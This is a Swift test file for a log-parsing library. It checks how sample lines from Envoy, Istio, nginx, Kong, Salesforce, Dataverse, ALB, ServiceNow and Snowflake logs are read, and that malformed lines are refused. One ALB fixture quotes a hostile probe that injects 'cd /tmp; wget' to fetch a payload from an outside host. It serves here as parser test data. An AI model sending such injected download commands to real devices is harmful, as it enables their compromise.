// weir
// SPDX-License-Identifier: Apache-2.0

import LogFormats
import TestSupport
import Testing

/// Shapes that logs in public repositories and vendors' manuals have, and that were once misread.
struct PublicLogTests {
    /// A line and what it says: parts of ``RecordSight``'s text, in their order.
    struct Sight: CustomTestStringConvertible {
        var what: String
        var format: String
        var fields: [String: String] = [:]
        var line: String
        var says: [String]

        var testDescription: String { "\(format): \(what)" }
    }

    private static let istio = ["account": "client"]
    private static let quoted = #""10.1.2.3" "curl/7.60.0" "d209e46f" "crm:8000" "172.30.146.73:80" outbound|8000 - 172.21.13.94:8000"#

    static let sights = [
        Sight(
            what: "Istio up to 1.3: one text behind the flags", format: "envoy", fields: istio,
            line: #"[2019-03-06T09:31:27.354Z] "GET /api/x HTTP/1.1" 200 - "-" 7 135 11 10 \#(quoted) 172.30.146.82:60290 -"#,
            says: ["2019-03-06T09:31:27.354Z 10.1.2.3", " read - /api/x 10.1.2.3", "bytes 135", "agent=curl/7.60.0"]),
        Sight(
            what: "Istio up to 1.7: two texts", format: "envoy", fields: istio,
            line: #"[2020-06-30T16:17:56.763Z] "GET /api/x HTTP/2" 200 - "-" "TLS error" 0 1295938 529 89 \#(quoted) 10.2.0.1:1 - -"#,
            says: [" 10.1.2.3", " read - /api/x 10.1.2.3", "bytes 1295938", "agent=curl/7.60.0"]),
        Sight(
            what: "Istio from 1.8 on: three", format: "envoy", fields: istio,
            line: #"[2023-06-30T16:17:56.763Z] "GET /api/x HTTP/2" 200 - via_upstream - "-" 0 77 5 4 \#(quoted) 10.2.0.1:1 - default"#,
            says: [" 10.1.2.3", "bytes 77", "agent=curl/7.60.0"]),
        Sight(
            what: "Envoy: none, and no time of an upstream", format: "envoy", fields: istio,
            line: #"[2023-06-30T16:17:56.763Z] "GET /api/x HTTP/2" 200 - 0 78 5 - "10.1.2.3" "curl/7.60.0" "d2" "crm" "-""#,
            says: [" 10.1.2.3", "bytes 78", "agent=curl/7.60.0"]),
        Sight(
            what: "Istio's names, no dashes in them", format: "envoy_json",
            line: #"{"start_time":"2023-03-23T04:09:46.421Z","username":"svc-a","response_code":200,"x_forwarded_for":"172.17.0.1","#
                + #""downstream_remote_address":"10.0.0.9:48499","method":"GET","path":"/items","bytes_sent":502,"user_agent":"curl/7"}"#,
            says: ["svc-a", " /items 172.17.0.1 ", "bytes 502", "agent=curl/7"]),
        Sight(
            what: "Contour's time", format: "envoy_json",
            line: #"{"@timestamp":"2023-03-23T04:09:46.421Z","user":"svc-a","response_code":200,"method":"GET","path":"/items"}"#,
            says: ["2023-03-23T04:09:46.421Z svc-a", " /items"]),
        Sight(
            what: "security activity names who acted", format: "hubspot",
            line: #"{"actingUser":"person3@x.com","createdAt":"2022-04-01T19:36:24.303Z","objectId":"7","type":"ADD_USER","userId":876}"#,
            says: ["person3@x.com", " admin "]),
        Sight(
            what: "record ids as an array", format: "dataverse",
            line: #"{"TimeGenerated":"2026-06-01T02:05:00Z","OfficeWorkload":"CRM","UserId":"s@x.com","Message":"RetrieveMultiple","#
                + #""QueryResults":[ "a" , "b\"", "c,d"],"ClientIP":"1.2.3.4"}"#,
            says: ["s@x.com", " query ", "rows 3"]),
        Sight(
            what: "record ids as a text", format: "dataverse",
            line: #"{"TimeGenerated":"2026-06-01T02:05:00Z","OfficeWorkload":"CRM","UserId":"s@x.com","QueryResults":"a,b"}"#,
            says: ["rows 2"]),
        Sight(
            what: "the request says what was done, where no method stands beside the path", format: "nginx_json",
            line: #"{"@timestamp":"2021-03-01T10:00:00Z","remote_user":"svc","uri":"/index.php","status":"200","bytes_sent":5,"#
                + #""request":"POST /api/contacts HTTP/1.1"}"#,
            says: [" write - /api/contacts ", "bytes 5"]),
        Sight(
            what: "a request that is a path, and a shipper's file", format: "nginx_json",
            line: #"{"@timestamp":"2016-07-24T23:23:22Z","remote_user":"svc","request":"/Status","method":"GET","path":"/var/log/a.json"}"#,
            says: [" read - /Status "]),
        Sight(
            what: "a place for the path in the settings goes first", format: "nginx_json", fields: ["endpoint": "route"],
            line: #"{"@timestamp":"2016-07-24T23:23:22Z","remote_user":"svc","request":"POST /a HTTP/1.1","route":"/b"}"#,
            says: [" write - /b "]),
        Sight(
            what: "escaped slashes", format: "nginx_json",
            line: #"{"time":"2025-09-23T14:54:42Z","remote_user":"svc","status":"200","request":"POST \/api\/v2\/export?a=2 HTTP\/1.1"}"#,
            says: [" export - /api/v2/export?a=2 "]),
        Sight(
            what: "bytes of an error are none that left", format: "nginx_json",
            line: #"{"time":"2025-09-23T14:54:42Z","remote_user":"svc","status":404,"bytes_sent":2326,"request":"GET /a HTTP/1.1"}"#,
            says: [" read - /a - status 404"]),
        Sight(
            what: "a consumer's id in an object", format: "kong",
            line: #"{"request":{"method":"GET","uri":"\/"},"response":{"status":200,"size":8},"started_at":1566660387,"#
                + #""authenticated_entity":{"consumer_id":{"uuid":"72b34d31"}}}"#,
            says: ["72b34d31"]),
        Sight(
            what: "event log objects have names of their own", format: "salesforce_event",
            line: #"{"attributes":{"type":"SoapApiEventLog"},"MethodName":"queryMore","RowsProcessed":2000.0,"#
                + #""Timestamp":"2024-07-27T11:32:59.555+0000","UserIdentifier":"00530000009M943YAS"}"#,
            says: ["00530000009M943", " query ", "rows 2000"]),
        Sight(
            what: "downloads of CRM Analytics", format: "salesforce_event",
            line: #"{"attributes":{"type":"AnalyticsDownloadEventLog"},"DownloadFormat":"csv","RecordCount":12000,"#
                + #""AnalyticsTimestamp":"2024-07-27T11:32:59.555+0000","UserIdentifier":"00530000009M943AAQ"}"#,
            says: [" export ", "rows 12000"]),
        Sight(
            what: "the size of a file", format: "salesforce_event",
            line: #"{"attributes":{"type":"ContentTransferEventLog"},"FileSize":5242880.0,"OperationType":"VersionDownloadApi","#
                + #""Timestamp":"2024-07-27T11:32:59.555+0000","UserIdentifier":"00530000009M943YAS"}"#,
            says: [" export ", "bytes 5242880"]),
        Sight(
            what: "a login without its type", format: "salesforce_event",
            line: #"{"EventDate":"2021-10-19T11:47:22Z","LoginHistoryId":"0Ya5j","CreatedById":"0055j000000q9s7AAA","#
                + #""Status":"Failed: Missing Consumer Key Parameter","EventIdentifier":"06af6d92","SourceIp":"89.160.20.112"}"#,
            says: [" login ", "LoginEvent", "status 401"]),
        Sight(
            what: "a request with blanks in it", format: "alb", fields: ["account": "client"],
            line: #"http 2022-05-12T06:41:29.051646Z app/a/3 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "#
                + #""GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.x.tk/jaws HTTP/1.1" "Hello" - - - "Root=1" "-" "-" 0 "#
                + #"2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri""#,
            says: ["67.43.156.20", " read - /shell?cd+/tmp;wget+ a.x.tk/jaws ", "status 301"]),
        Sight(
            what: "every field with what is displayed of it", format: "servicenow",
            line: #"{"sys_created_on":{"display_value":"2015-07-06 11:55:46","value":"2015-07-06 18:55:46"},"sys_class_name":"#
                + #"{"display_value":"Export","value":"isc_export_event"},"user_name":{"display_value":"BI","value":"svc-bi"},"#
                + #""records":{"display_value":"2,000","value":"2000"}}"#,
            says: ["2015-07-06T18:55:46Z svc-bi", " export ", "rows 2000"]),
        Sight(
            what: "a name that was looked up, behind a host that is an address", format: "combined",
            line: #"67.43.156.15 localhost - svc-a [29/May/2017:19:02:48 +0000] "GET /x HTTP/1.1" 200 612 "-" "a""#,
            says: ["svc-a", " /x localhost "]),
    ]

    @Test(arguments: sights) func `a public log is read as it says`(sight: Sight) throws {
        let seen = try RecordSight(sight.format, sight.line + "\n", fields: sight.fields)
        #expect(seen.refused.isEmpty && seen.ignored == 0)
        let line = try #require(seen.lines.first)
        var rest = line[...]
        for part in sight.says {
            let place = rest.firstRange(of: part)
            #expect(place != nil, "\(part) in: \(line)")
            if let place { rest = rest[rest.index(before: place.upperBound)...] }
        }
    }

    @Test func `a statement that still runs is none yet, and counts when it has ended`() throws {
        func record(_ status: String, _ end: String) -> String {
            #"{"QUERY_ID":"01a-1","QUERY_TYPE":"SELECT","USER_NAME":"SVC","START_TIME":"2024-10-09 12:38:06.158 -0700","#
                + #""EXECUTION_STATUS":"\#(status)","END_TIME":\#(end),"ROWS_PRODUCED":\#(status == "SUCCESS" ? "5" : "null")}"#
        }
        let running = record("RUNNING", "\"1969-12-31 16:00:00.000 -0800\"") + record("QUEUED", "null")
        let seen = try RecordSight("snowflake", running + record("SUCCESS", "\"2024-10-09 12:38:09.158 -0700\""))
        #expect(seen.ignored == 2 && seen.refused.isEmpty)
        #expect(seen.lines.count == 1 && seen.lines[0].contains("rows 5"))
    }

    @Test(arguments: [
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - "-" "-" "-" "-" 0 135 11 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - a b 0 135 11 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - a 0 135 11 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - "7" 135 "11" 10 "-" "-" "a" "b" "c""#,
        #"[2019-03-06T09:31:27.354Z] "GET /x HTTP/1.1" 200 - - - - - 0 135 11 10"#,
    ]) func `a line of Envoy whose numbers stand elsewhere is refused`(line: String) throws {
        #expect(try RecordSight("envoy", line + "\n").reasons == ["syntax": 1])
    }

    @Test func `words of a request without a version are no request`() throws {
        let line = #"2026-06-01T02:05:00Z lb 1.2.3.4:5 - -1 -1 -1 301 - 233 390 "GET /a b c" "x" - -"#
        #expect(try RecordSight("alb", line + "\n").reasons == ["syntax": 1])
    }
}
